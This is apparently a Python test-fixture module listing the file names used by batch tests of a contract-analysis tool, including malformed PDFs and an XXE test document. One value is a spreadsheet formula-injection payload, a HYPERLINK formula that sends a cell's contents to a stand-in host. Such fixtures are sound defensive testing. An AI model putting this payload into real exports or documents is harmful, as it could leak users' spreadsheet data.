"""Names of the real files the batch tests use (see conftest.py)."""

from __future__ import annotations

CUAD_TEXTS = (
    "SIBANNAC,INC_12_04_2017-EX-2.1-Strategic Alliance Agreement.txt",
    "COOLTECHNOLOGIES,INC_10_25_2017-EX-10.71-Strategic Alliance Agreement.txt",
)
TEMPLATE_DOCX = "common-paper-mutual-nda.docx"
ENCRYPTED_PDF = "pdfjs__issue6010_2.pdf"  # password-protected: a deterministic error row
# a contract whose text starts with a spreadsheet formula (and whose name does too)
FORMULA_NAME = "=HYPERLINK(evil).txt"
FORMULA_HEAD = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click for the signed copy")\n'
# odd files from ../shared/corpus that can be read (a few words of text or more): the real
# analysis must give each a result or a clear error row, never an unexpected exception.
# They go to the portfolio's odd/ folder; test_batch_corpus.py covers the unreadable ones.
ODD_FILES = (
    "pdf/qpdf__bad1.pdf",  # not really a PDF: one word
    "pdf/formatcorpus__T02-03_008_page-object-mediabox-missing.pdf",  # broken page tree
    "pdf/pdfjs__poppler-67295-0.pdf",  # page count lie: /Count 9999999999
    "docx/poi__ExternalEntityInText.docx",  # XXE: the entity must not be resolved
    "docx/poi__delins.docx",  # tracked changes
)
